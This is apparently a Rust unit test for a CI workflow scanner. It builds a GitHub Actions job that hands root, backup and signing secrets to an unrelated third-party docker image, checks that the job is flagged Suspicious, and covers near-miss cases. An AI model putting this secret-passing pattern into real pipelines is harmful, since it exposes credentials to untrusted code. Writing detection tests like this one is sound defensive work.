fn keys_to_three_things_for_an_image_that_tidies() {
    let job = |options: &str, image: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ROOT_PASSWORD: ${{{{ secrets.ROOT_PASSWORD }}}}\n      BACKUP_KEY: ${{{{ secrets.BACKUP_KEY }}}}\n      SIGNING_KEY: ${{{{ secrets.SIGNING_KEY }}}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: docker run --rm {options} {image}\n"
        )
    };
    let three = "-e ROOT_PASSWORD -e BACKUP_KEY -e SIGNING_KEY";
    assert_eq!(worst(&job(three, "someone/tables-lint:edge")), Some(Verdict::Suspicious));
    // Near misses: one key, and an image that may have a use for them.
    assert_eq!(worst(&job("-e ROOT_PASSWORD", "someone/tables-lint:edge")), Some(Verdict::Exposed));
    assert_eq!(worst(&job(three, "someone/deploys:edge")), Some(Verdict::Exposed));
}
